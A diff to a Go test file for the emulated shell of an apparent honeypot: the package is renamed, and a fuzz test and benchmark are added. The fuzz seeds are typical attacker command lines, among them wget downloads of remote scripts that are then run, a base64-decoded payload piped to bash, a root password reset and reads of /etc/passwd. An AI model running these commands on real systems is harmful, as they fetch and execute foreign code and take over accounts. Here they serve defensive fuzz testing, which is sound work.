@@ -1,22 +1,28 @@
-package ssh
+package shell
 
 import (
+	"bytes"
+	"io"
 	"strconv"
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/decnet-go/decnet/internal/persona"
 )
 
+var testPersona = persona.New([]byte("secret"), "decky-test")
+
 // newTestShell is a shell of the test persona for login user.
-func newTestShell(t testing.TB, user string, mode shellMode) *Shell {
+func newTestShell(t testing.TB, user string, mode Mode) *Shell {
 	t.Helper()
 	l, ok := testPersona.Account(user)
 	if !ok {
 		t.Fatalf("persona has no user %q", user)
 	}
 	now := time.Date(2026, 5, 5, 10, 11, 12, 0, time.UTC)
-	return newShell(shellConfig{persona: testPersona, login: l, mode: mode, srcIP: "198.51.100.7",
-		dstIP: "10.0.0.2", now: func() time.Time { return now }})
+	return New(Config{Persona: testPersona, Login: l, Mode: mode, SrcIP: "198.51.100.7",
+		DstIP: "10.0.0.2", Now: func() time.Time { return now }})
 }
 
 func run(sh *Shell, line string) string {
@@ -116,7 +122,7 @@ func TestShellCommands(t *testing.T) {
 			if u == "" {
 				u = "root"
 			}
-			sh := newTestShell(t, u, modeInteractive)
+			sh := newTestShell(t, u, Interactive)
 			for _, l := range tc.setup {
 				run(sh, l)
 			}
@@ -140,11 +146,11 @@ func itoa(n int) string { return strconv.Itoa(n) }
 
 func TestShellErrorPrefixes(t *testing.T) {
 	for _, tc := range []struct {
-		mode shellMode
+		mode Mode
 		want string
 	}{
-		{modeInteractive, "-bash: foo: command not found\n"},
-		{modeStdin, "-bash: line 1: foo: command not found\n"},
+		{Interactive, "-bash: foo: command not found\n"},
+		{Stdin, "-bash: line 1: foo: command not found\n"},
 	} {
 		if got := run(newTestShell(t, "root", tc.mode), "foo"); got != tc.want {
 			t.Errorf("mode %d: %q, want %q", tc.mode, got, tc.want)
@@ -153,7 +159,7 @@ func TestShellErrorPrefixes(t *testing.T) {
 }
 
 func TestPrompt(t *testing.T) {
-	sh := newTestShell(t, "root", modeInteractive)
+	sh := newTestShell(t, "root", Interactive)
 	host := testPersona.Hostname
 	if got := sh.Prompt(); got != "root@"+host+":~# " {
 		t.Errorf("root prompt %q", got)
@@ -162,7 +168,7 @@ func TestPrompt(t *testing.T) {
 	if got := sh.Prompt(); got != "root@"+host+":/var/log# " {
 		t.Errorf("prompt in /var/log %q", got)
 	}
-	u := newTestShell(t, testPersona.User, modeInteractive)
+	u := newTestShell(t, testPersona.User, Interactive)
 	run(u, "mkdir -p ~/src; cd ~/src")
 	if got := u.Prompt(); got != testPersona.User+"@"+host+":~/src$ " {
 		t.Errorf("user prompt %q", got)
@@ -181,7 +187,7 @@ func TestIncomplete(t *testing.T) {
 }
 
 func TestShellLimits(t *testing.T) {
-	sh := newTestShell(t, "root", modeInteractive)
+	sh := newTestShell(t, "root", Interactive)
 	// A script that runs itself never ends in bash; here the depth limit stops it.
 	run(sh, "echo './r.sh; ./r.sh' > /tmp/r.sh; chmod 755 /tmp/r.sh; cd /tmp")
 	if out := run(sh, "./r.sh"); out != "" {
@@ -214,5 +220,54 @@ func TestLineEditor(t *testing.T) {
 	}
 	if !strings.Contains(echo.String(), "ab\b \bc\r\n") || !strings.Contains(echo.String(), "^C\r\n") {
 		t.Errorf("echo %q", echo.String())
+	}
+}
+
+// FuzzShellLine feeds command lines to the parser and interpreter. Seeds
+// are lines attackers type (more under testdata/fuzz/FuzzShellLine). The
+// shell must never panic, never print more than its output limit, and
+// never let the session filesystem outgrow its budget.
+func FuzzShellLine(f *testing.F) {
+	for _, seed := range []string{
+		"cd /tmp; wget http://x/a.sh; chmod +x a.sh; ./a.sh",
+		"cat /proc/cpuinfo | grep name | wc -l",
+		`echo -e '\x41'`,
+		"uname -a; cat /etc/passwd",
+		"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://1.2.3.4/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
+		"echo \"root:Passw0rd\" | chpasswd",
+		"cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
+		"free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
+		"ls -lh $(which ls)",
+		"crontab -l; w; uname -m; top -bn1 | head -5",
+		"echo ZWNobyBoaQ== | base64 -d | bash",
+		"for i in $(seq 1 10); do echo $i; done",
+		`export PATH=$PATH:/usr/sbin; X="${HOME:-/}"; echo ${#X} $$ $?`,
+		"(cd /tmp && ls) > /dev/null 2>&1 &",
+		"echo 'unterminated",
+		"; ;; && || | >",
+		"$((1+2)) `whoami` $(echo $(id))",
+	} {
+		f.Add(seed)
+	}
+	f.Fuzz(func(t *testing.T, line string) {
+		sh := newTestShell(t, "root", Interactive)
+		var out bytes.Buffer
+		sh.Run(line, &out)
+		sh.Run(line, &out) // twice: the first run may have changed state
+		if out.Len() > 2*maxOutput {
+			t.Fatalf("printed %d bytes", out.Len())
+		}
+		if sh.fs.budget < 0 {
+			t.Fatalf("filesystem budget %d", sh.fs.budget)
+		}
+	})
+}
+
+// BenchmarkShellCommand measures one typical attacker line through the
+// interpreter.
+func BenchmarkShellCommand(b *testing.B) {
+	sh := newTestShell(b, "root", Interactive)
+	for b.Loop() {
+		sh.Run("cat /proc/cpuinfo | grep name | wc -l; uname -a; ls -la /etc", io.Discard)
 	}
 }
